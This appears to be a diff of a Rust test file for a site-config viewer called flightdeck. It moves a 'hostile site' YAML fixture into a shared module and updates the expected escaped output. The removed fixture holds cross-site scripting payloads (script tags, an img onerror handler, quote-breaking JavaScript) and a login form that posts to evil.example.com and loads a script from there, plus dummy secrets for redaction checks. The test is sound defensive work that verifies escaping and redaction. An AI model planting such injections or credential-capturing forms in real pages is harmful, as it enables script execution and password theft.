@@ -2,7 +2,9 @@
 
 mod common;
 
-use common::{HealthServer, Options, TestServer, eventually, http_get, request, site_yaml};
+use common::{
+    HOSTILE_SITE, HealthServer, Options, TestServer, eventually, http_get, request, site_yaml,
+};
 use flightdeck::server::FeatureOverrides;
 use flightdeck::site_source::{SiteIdentity, SiteSource, SiteView};
 use std::collections::BTreeSet;
@@ -145,41 +147,6 @@ fn config_page_is_404_unless_show_config() {
     assert!(html.contains("<code>posit/package-manager:2026.08.0</code>"));
 }
 
-const HOSTILE_SITE: &str = r#"apiVersion: core.posit.team/v1beta1
-kind: Site
-metadata:
-  name: main
-  namespace: posit-team
-spec:
-  domain: posit.example.com
-  flightdeck:
-    featureEnabler:
-      showConfig: true
-  connect:
-    image: "posit/connect:<script>alert('image')</script>"
-    loggedInWarning: "<script>alert('logged-in')</script>"
-    publicWarning: "\"><img src=x onerror=alert(1)>"
-    license:
-      type: KEY
-      key: LICENSE-KEY-SECRET-1234
-    addEnv:
-      DB_PASSWORD: hunter2-secret-value
-      CONNECT_DATABASE: "postgres://connect:pg-secret-pw@db.example.com/connect"
-      "<b>bold</b>": "</code></pre><script>alert('env')</script>"
-      PROXY: "https://user:proxy-secret-pw@proxy.example.com:3128"
-    experimentalFeatures:
-      sessionEnvVars:
-        - name: API_TOKEN
-          value: tok-secret-999
-        - name: GREETING
-          value: "<i>hello</i>"
-  workbench:
-    authLoginPageHtml: "<form action=https://evil.example.com><input name=p></form><script src=//evil.example.com/x.js></script>"
-    snowflake:
-      accountId: acct
-      clientId: "'; alert(1); '"
-"#;
-
 #[test]
 fn config_page_escapes_hostile_strings_and_redacts_secrets() {
     let server = TestServer::start(Options::new(HOSTILE_SITE.to_string()));
@@ -198,8 +165,9 @@ fn config_page_escapes_hostile_strings_and_redacts_secrets() {
     assert!(html.matches("[redacted]").count() >= 5);
     // The hostile text is shown, as text.
     for shown in [
-        "&lt;script&gt;alert(&#39;logged-in&#39;)&lt;/script&gt;",
-        "&lt;img src=x onerror=alert(1)&gt;",
+        "&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;",
+        // YAML escapes the inner quotes of this one.
+        "&lt;img src=x onerror=\\&quot;document.title=&#39;pwned&#39;\\&quot;&gt;",
         "&lt;b&gt;bold&lt;/b&gt;",
         "&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;alert(&#39;env&#39;)",
         "&lt;form action=https://evil.example.com&gt;",
